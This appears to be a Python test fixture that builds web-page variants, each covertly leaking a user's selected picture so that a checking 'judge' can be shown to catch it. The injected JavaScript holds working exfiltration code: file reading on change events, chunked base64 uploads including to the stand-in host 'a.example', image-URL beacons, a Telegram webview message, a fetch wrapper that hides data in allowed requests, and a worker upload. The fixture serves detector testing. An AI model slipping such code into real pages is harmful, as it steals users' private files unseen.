"""Pages that give her picture away, each by another way out, so that the judge is seen to see it."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

Spoil = Callable[[bytes], bytes]

#: In the page: the file she picked, in pieces. The page's own listener never notices.
_IN_THE_PAGE = """
const line = async () => { while (!navigator.onLine) await new Promise((wait) => setTimeout(wait, 50)); };
const written = (bytes) => btoa(String.fromCharCode(...bytes)).replaceAll("+", "-").replaceAll("/", "_");
document.addEventListener("change", async ({ target }) => {
  const file = target.files[0];
  const bytes = new Uint8Array(await file.arrayBuffer());
  for (let at = 0; at < Math.min(bytes.length, 4000); at += 500) {
    const piece = bytes.subarray(at, at + 500);
    await out(piece, written(piece)).catch(() => {});
  }
}, true);
"""
_IN_THE_WORKER = """
addEventListener("message", async ({ data }) => {
  const bytes = new Uint8Array(await data.file.arrayBuffer());
  while (!navigator.onLine) await new Promise((wait) => setTimeout(wait, 50));
  const body = JSON.stringify({ act: "open", secret: [...bytes.subarray(5000, 5400)] });
  await fetch("/api/hashes", { method: "POST", body });
});
"""
#: Behind the rows that do go out, in the one call that may.
_BESIDE_THE_ROWS = """
const sent = globalThis.fetch;
let beside = "";
globalThis.fetch = (where, what) => sent(where, { ...what, body: what.body + beside });
const out = async (piece, written) => { beside ||= " ".repeat(8) + written; };
"""


@dataclass(frozen=True)
class Leak:
    """`files`: what becomes of which file of the page. `breaks`: the rules of the judge that it breaks at least."""

    files: dict[str, Spoil]
    breaks: frozenset[str]


def _as_it_is(content: bytes) -> bytes:
    """Only its policy is lost."""
    return content


def _with(script: str) -> Spoil:
    """In a block: its names are not the page's."""
    return lambda content: content + b"\n{" + script.encode() + b"}"


def _page(out: str, *, policy: bool, breaks: set[str]) -> Leak:
    """`policy`: what the house allows stays in force."""
    loose: dict[str, Spoil] = {} if policy else {"/hashes": _as_it_is}
    return Leak(loose | {"/hashes/page.js": _with(out + _IN_THE_PAGE)}, frozenset(breaks | {"the file"}))


LEAKS = {
    "in pieces, to another address of ours": _page(
        'const out = (piece) => line().then(() => fetch("/hashes/other", { method: "POST", body: piece }));',
        policy=False, breaks={"another address", "more than one call", "too much"},
    ),
    "in pieces, to somebody else": _page(
        'const out = (body) => line().then(() => fetch("//a.example", { method: "POST", mode: "no-cors", body }));',
        policy=False, breaks={"another host"},
    ),
    "by the address of a picture": _page(
        'const out = (_, written) => line().then(() => { new Image().src = "/hashes/dot.png?" + written; });',
        policy=True, breaks={"another address"},
    ),
    "by a word to the app around it": _page(
        'const out = async (piece, written) => TelegramWebviewProxy.postEvent("web_app_data_send", written);',
        policy=True, breaks={"a word to the app"},
    ),
    "beside the rows that may go out": _page(_BESIDE_THE_ROWS, policy=True, breaks=set()),
    "by the worker, as a call that may go out": Leak(
        {"/hashes/worker.js": _with(_IN_THE_WORKER)}, frozenset({"the file", "more than one call"})
    ),
}  # fmt: skip
